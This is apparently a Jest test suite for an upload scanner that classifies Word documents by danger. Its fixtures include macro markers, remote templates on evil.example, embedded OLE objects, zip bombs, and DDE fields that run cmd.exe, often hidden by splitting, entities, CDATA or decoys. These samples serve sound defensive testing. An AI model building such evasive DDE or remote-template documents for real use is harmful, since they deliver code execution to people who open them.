import { describe, expect, test } from '@jest/globals';
import { inspect } from '../../src/server/features/applications/files/kinds.ts';
import { doc, docx } from '../support/files.ts';
import { isLong } from '../support/form.ts';

const MB = 1024 * 1024;

const dangersIn = async (bytes: Buffer) => [...((await inspect(bytes))?.dangers ?? ['refused'])].sort();
const find = (files: [string, Buffer][], ...expected: string[]) =>
  test.each(files)('%s', async (_what, bytes) => {
    expect(await dangersIn(bytes)).toEqual(expected);
  });

const w = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"';
const body = (inside: string, tag = 'w') =>
  docx({
    name: 'word/document.xml',
    content: `<?xml version="1.0"?><${tag}:document xmlns:${tag}="x"><${tag}:body>${inside}</${tag}:body></${tag}:document>`,
  });
const run = (inside: string) => `<w:r>${inside}</w:r>`;
const begin = run('<w:fldChar w:fldCharType="begin"/>');
const separate = run('<w:fldChar w:fldCharType="separate"/>');
const end = run('<w:fldChar w:fldCharType="end"/>');
const code = (text: string) => run(`<w:instrText xml:space="preserve">${text}</w:instrText>`);
const deleted = (text: string) => `<w:delInstrText>${text}</w:delInstrText>`;
const alternative = (inside: string) =>
  `<mc:AlternateContent><mc:Choice Requires="x">${inside}</mc:Choice></mc:AlternateContent>`;

const types = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const related = (type: string, target: string, mode = ' TargetMode="External"') =>
  docx({
    name: 'word/_rels/document.xml.rels',
    content: `<?xml version="1.0"?><Relationships><Relationship Id="r1" Type="${type.includes(':') ? type : `${types}/${type}`}" Target="${target}"${mode}/></Relationships>`,
  });
const contentType = (type: string) =>
  docx({
    name: '[Content_Types].xml',
    content: `<?xml version="1.0"?><Types><Override PartName="/word/document.xml" ContentType="${type}"/></Types>`,
  });

describe('an innocent Word document', () => {
  find([
    ['as it comes', docx()],
    ['with links', related('hyperlink', 'https://github.com/jane')],
    ['with a link to write a mail', related('hyperlink', 'mailto:jane@example.com')],
    ['with a picture inside', related('image', 'media/image1.png', '')],
    [
      "made from a template on the author's own disk",
      related('attachedTemplate', 'file:///C:\\Users\\Jane\\CV.dotx'),
    ],
    ['with a template beside it', related('attachedTemplate', 'Normal.dotm')],
    ['with a page number', body(begin + code(' PAGE ') + separate + run('<w:t>1</w:t>') + end)],
    [
      'with a table of contents, fields inside its result',
      body(
        begin +
          code(' TOC \\o "1-3" ') +
          separate +
          begin +
          code(' PAGEREF _Toc1 \\h ') +
          separate +
          end +
          end,
      ),
    ],
    [
      'with a field inside the code of another',
      body(begin + code(' IF ') + begin + code('PAGE') + end + code(' = 1 "a" "b"') + end),
    ],
    ['that tells of DDE', body(run('<w:t>DDEAUTO and macros; vbaProject.bin; /JavaScript</w:t>'))],
    ['with a link about DDE', body(begin + code(' HYPERLINK "https://example.com/DDE" ') + separate + end)],
    ['with DDE in a result', body(begin + code('REF a') + separate + run('<w:t>DDE</w:t>') + end)],
    ['with alternatives in a result', body(begin + code('REF a') + separate + alternative(end) + end)],
    ['with a change to the code of a field', body(begin + run(deleted('PAGE')) + code(' DATE ') + end)],
    ['with a comment of markup', body('<!-- <w:fldSimple w:instr="DDEAUTO x"/> -->')],
    ['with a tag in CDATA', body(run('<w:t><![CDATA[<w:fldSimple w:instr="DDEAUTO x"/>]]></w:t>'))],
  ]);
});

describe('a Word document with macros', () => {
  find(
    [
      ['in their part', docx({ name: 'word/vbaProject.bin', content: 'x' })],
      ['in a part of another spelling', docx({ name: 'word/VBAPROJECT.BIN', content: 'x' })],
      ['by its type', contentType('application/vnd.ms-word.document.macroEnabled.main+xml')],
      ['by the type of a part', contentType('application/vnd.ms-office.vbaProject')],
      [
        'by a relationship',
        related('http://schemas.microsoft.com/office/2006/relationships/vbaProject', 'a.bin', ''),
      ],
      ['by its type, as entities', contentType('application/vnd.ms-word.document.macro&#69;nabled.main+xml')],
      [
        'by its type, in UTF-16',
        docx({
          name: '[Content_Types].xml',
          content: Buffer.from(
            '\uFEFF<?xml version="1.0" encoding="UTF-16"?><Types><Default Extension="xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
            'utf16le',
          ),
        }),
      ],
    ],
    'macros',
  );
});

describe('a Word document that loads something when it is opened', () => {
  find(
    [
      ['a template of the web', related('attachedTemplate', 'https://evil.example/a.dotm')],
      ['a template of a share', related('attachedTemplate', '\\\\evil.example\\a.dotm')],
      ['a template of a share, as an address', related('attachedTemplate', 'file://evil.example/a.dotm')],
      ['a picture of the web', related('image', 'https://evil.example/pixel.png')],
      [
        'a template that does not say it is outside',
        related('attachedTemplate', 'https://evil.example/a.dotm', ''),
      ],
      ['a template under an escaped name', related('attached&#84;emplate', 'https://evil.example/a.dotm')],
      ['a source of letters', related('mailMergeSource', 'file://evil.example/a.mdb')],
    ],
    'outside',
  );
});

describe('a Word document with something embedded', () => {
  find(
    [
      ['an object', docx({ name: 'word/embeddings/oleObject1.bin', content: 'x' })],
      ['a control', docx({ name: 'word/activeX/activeX1.xml', content: '<ax:ocx xmlns:ax="x"/>' })],
      ['a linked object', related('oleObject', 'https://evil.example/a.html!')],
      ['a package', related('package', '../a/b.bin', '')],
      ['a frame', related('frame', 'https://evil.example/')],
      ['a document of another kind', related('aFChunk', 'a.rtf', '')],
      ['an object in the text', body('<w:object><o:OLEObject Type="Embed" ProgID="Package"/></w:object>')],
    ],
    'embedded',
  );
});

describe('a Word document with DDE', () => {
  find(
    [
      ['in a simple field', body('<w:fldSimple w:instr=\' DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc" \'/>')],
      ['in a field', body(begin + code(' DDEAUTO cmd ') + end)],
      ['in a field without AUTO', body(begin + code('dde cmd') + separate + end)],
      [
        'split over runs',
        body(begin + code('D') + code('DE') + run('<w:t>x</w:t>') + code('AU') + code('TO cmd') + end),
      ],
      [
        'split by a field between',
        body(begin + code('DD') + begin + code('QUOTE ""') + end + code('EAUTO cmd') + end),
      ],
      ['made by another field', body(begin + begin + code('QUOTE 68 68 69') + end + code(' cmd') + end)],
      ['as entities', body(begin + code('&#68;&#x44;E cmd') + end)],
      ['in CDATA', body(begin + run('<w:instrText><![CDATA[DDE cmd]]></w:instrText>') + end)],
      ['under another prefix', body('<x:fldSimple x:instr="DDE cmd"/>', 'x')],
      [
        'in a header of any name',
        docx({ name: 'custom/part.bin', content: `<w:hdr ${w}><w:fldSimple w:instr="DDE a"/></w:hdr>` }),
      ],
      ['in a field that never ends', body(begin + code('DDEAUTO cmd'))],
      [
        'behind much white space',
        docx({ name: 'a', content: `${' '.repeat(1e5)}<w:fldSimple w:instr="DDE a"/>` }),
      ],
      ['completed by another field', body(begin + code('D') + begin + code('QUOTE "DE"') + end + end)],
      ['as plain text', body(begin + run('<w:t>DDEAUTO cmd</w:t>') + separate + end)],
      ['split by another element', body(begin + run('<w:instrText>DD<x:a/>EAUTO cmd</w:instrText>') + end)],
      ['behind a deleted decoy', body(begin + run(deleted('PAGE ')) + code('DDEAUTO cmd') + end)],
      ['behind the end of the code', body(begin + code('PAGE') + separate + code('DDEAUTO cmd') + end)],
      ['behind an alternative', body(begin + alternative(code('PAGE ')) + code('DD') + code('E cmd') + end)],
    ],
    'dde',
  );
});

describe('a Word document that could not be checked', () => {
  const attributes = (count: number) => Array.from({ length: count }, (_, i) => `a${i}=""`).join(' ');
  const part = (name: string, size: number) => ({
    name: `word/${name}.xml`,
    content: `<a>${'x'.repeat(size)}</a>`,
  });
  find(
    [
      ['with custom entities', docx({ name: 'word/a.xml', content: '<!DOCTYPE a [<!ENTITY d "DDE">]><a/>' })],
      [
        'in an unusual encoding',
        docx({ name: 'word/a.xml', content: '<?xml version="1.0" encoding="utf-7"?><a/>' }),
      ],
      ['with a tag that never ends', body(`<w:fldSimple w:instr="${'x'.repeat(20_000)}`)],
      ['with a comment that never ends', body('<!-- <w:p/>')],
      ['with tags in each other that no program writes', body('<a>'.repeat(300) + '</a>'.repeat(300))],
      ['with more tags than are read', body('<a/>'.repeat(400_001))],
      ['with more attributes than are read', body(`<a ${attributes(400_001)}/>`)],
      ['with more XML than is read', body('x'.repeat(9 * MB))],
      ['with more XML in all than is read', docx(part('a', 5 * MB), part('b', 5 * MB))],
      [
        'with the code of a field under two prefixes',
        body('<w:fldSimple w:instr="DDE a" x:instr="PAGE" xmlns:x="y"/>'),
      ],
      [
        'with marks of a field under another prefix',
        body(begin + run('<x:fldChar x:fldCharType="separate"/>') + code('DDEAUTO cmd') + end),
      ],
      ['with more parts than are read', docx(...Array.from({ length: 998 }, (_, i) => part(`${i}`, 1)))],
      ['that unpacks to 60 MB', docx({ name: 'word/a.bmp', content: Buffer.alloc(60_000_000) })],
      [
        'that says to unpack to 4 GB',
        docx({ name: 'word/a.bmp', content: Buffer.alloc(10_000), statedSize: 0xfffffffe }),
      ],
    ],
    'unreadable',
  );
});

const utf16 = (text: string) => Buffer.from(text, 'utf16le');
const withText = (...parts: (string | Buffer)[]) =>
  Buffer.concat([
    doc(),
    ...parts.map((part) => (typeof part === 'string' ? Buffer.from(part, 'latin1') : part)),
  ]);

describe('a Word 97-2003 document', () => {
  find([
    ['as it comes', doc()],
    [
      'that tells of DDE and links to a template',
      withText('DDEAUTO', utf16('see http://example.com/a.dotnet')),
    ],
    ['with a pool of objects that is empty', doc('ObjectPool')],
  ]);
  find(
    [
      ['with macros', doc('Macros')],
      ['with VBA', doc('VBA')],
      ['with a project', doc('_VBA_PROJECT')],
    ],
    'macros',
  );
  find(
    [
      ['with an object', doc('ObjectPool', '_1234567890')],
      ['with a package', doc('\x01Ole10Native')],
    ],
    'embedded',
  );
  find(
    [
      ['with DDE', withText('\x13 DDEAUTO cmd\x15')],
      ['with DDE in UTF-16', withText(utf16('\x13 DDE cmd\x15'))],
      ['with DDE behind much white space', withText(`\x13${' '.repeat(5_000)}DDE cmd\x15`)],
      ['with DDE behind much white space in UTF-16', withText(utf16(`\x13${' '.repeat(5_000)}DDE cmd\x15`))],
    ],
    'dde',
  );
  find(
    [
      ['with a template of the web', withText(utf16('https://evil.example/a.dotm'), '\0\0')],
      ['with a template of a share', withText(utf16('\\\\evil.example\\a.dot'), '\0\0')],
      ['with a template of a share, with spaces', withText(utf16('\\\\evil.example\\a b\\a.dot'), '\0\0')],
      ['with a template of a share, as an address', withText(utf16('file://evil.example/a.dot'), '\0\0')],
    ],
    'outside',
  );
});

describe('a file made to cost much', () => {
  const text = (piece: string, size: number) => piece.repeat(Math.ceil(size / piece.length)).slice(0, size);
  test.each([
    ['a Word document of tags', docx({ name: 'word/a.xml', content: text('<a', 20 * MB) })],
    ['a Word document of fields', body(text(begin, 8 * MB))],
    ['a Word document of open comments', body(text('<!--', 8 * MB))],
    ['a Word document of empty tags', body(text('<b/>', 8 * MB))],
    ['a Word document of deep tags', body(text('<a>', 8 * MB))],
    ['a Word document of entities', body(text('&amp;', 8 * MB))],
    ['a Word document of dashes in a comment', body(`<!--${text('-x', 8 * MB)}`)],
    ['a Word document of codes of fields', body(code(' '.repeat(16_000)) + text(code(' '), 7 * MB))],
    ['a Word document with a code of spaces', body(`<w:fldSimple w:instr="${text(' ', 7 * MB)}"/>`)],
    [
      'a Word document with names of parts that are long',
      docx(
        ...Array.from({ length: 70 }, (_, i) => ({ name: `${text('vbadata', 65_000)}/${i}`, content: '' })),
      ),
    ],
    ['a Word 97-2003 document of templates', withText(utf16(text('http:.dotz', 2 * MB)))],
    ['a Word 97-2003 document of marks', withText(text('\x13 ', 4 * MB))],
    ['a Word 97-2003 document of addresses', withText(utf16(text('http:', 2 * MB)))],
  ])('is judged within its time: %s', async (_what, bytes) => {
    const start = process.cpuUsage();
    expect(await inspect(bytes)).not.toBeNull();
    const { user, system } = process.cpuUsage(start);
    // A thread has twenty seconds; the largest take a fraction of one on a free machine, and several on a busy one.
    if (isLong) expect((user + system) / 1e6).toBeLessThan(12);
  });
});
